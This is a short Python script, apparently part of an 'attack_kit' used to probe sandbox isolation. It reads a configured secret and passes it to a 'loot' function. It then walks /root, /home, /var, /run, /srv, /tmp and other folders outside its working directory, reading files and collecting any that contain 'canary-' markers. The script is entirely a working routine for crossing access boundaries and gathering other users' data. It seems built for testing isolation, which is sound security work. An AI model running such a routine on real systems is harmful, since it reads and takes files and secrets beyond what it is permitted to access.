"""Walks through every folder that others use."""

import os

from attack_kit import FACTS, loot, ran, read

ran()
loot(read(FACTS["secret"]))
for top in (*FACTS["folders"], FACTS["results"], "/tmp", "/root", "/home", "/var", "/run", "/srv"):
    for folder, _, names in os.walk(top):
        for name in names[:50]:
            path = os.path.join(folder, name)
            if not path.startswith(os.getcwd()):
                text = read(path, 2000)
                if "canary-" in text:
                    loot(f"{path}: {text}")
